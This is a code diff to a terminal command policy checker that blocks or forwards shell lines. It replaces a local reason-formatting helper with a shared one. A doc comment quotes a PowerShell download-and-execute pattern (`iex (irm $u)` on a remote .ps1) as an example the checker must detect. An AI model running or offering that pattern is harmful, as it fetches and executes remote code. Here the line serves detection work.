@@ -5,7 +5,7 @@
  * `$u='http://x/a.ps1'` then `iex (irm $u)`, or a file downloaded by one line and run by the next.
  */
 import { analyse, evaluatePolicy, extractDestinations, MAX_HISTORY_LINES } from '../../shared/policy/index';
-import type { Platform, PolicyResult, Reason, Shell } from '../../shared/policy/types';
+import { plainReason, type Platform, type PolicyResult, type Shell } from '../../shared/policy/types';
 import { findControlCharacter, type PolicyReasonView } from '../../shared/api/terminal-protocol';
 import type { ServerContext } from '../context';
 import { loadTenantPolicyContext, type TenantPolicySnapshot } from '../controls/policy-context';
@@ -37,17 +37,6 @@ const realDeps: LineCheckerDeps = { loadTenantPolicyContext, recordScriptLog };
 
 /** Lines that may change shell state later lines depend on are kept longest once the history is full. */
 const MAX_STATEFUL_LINES = Math.floor(MAX_HISTORY_LINES / 2);
-
-export function toReasonView(reason: Reason): PolicyReasonView {
-  return {
-    code: reason.code,
-    severity: reason.severity,
-    ruleId: reason.ruleId,
-    message: reason.message,
-    spans: reason.spans.map((span) => ({ start: span.start, end: span.end })),
-    ...(reason.remedy ? { remedy: reason.remedy } : {}),
-  };
-}
 
 /**
  * Whether a line may leave state that a later line could use: a variable assignment, an output
@@ -139,7 +128,7 @@ export class TerminalLineChecker {
       sessionId: this.session.sessionId,
       meta: this.session.meta,
     });
-    const reasons = result.reasons.map(toReasonView);
+    const reasons = result.reasons.map(plainReason);
     if (result.decision === 'block') return { forward: false, decision: 'block', reasons, result, snapshot };
     this.forwarded.push({ text, stateful: isStatefulLine(text, result.shell, this.session.platform) });
     this.compact();
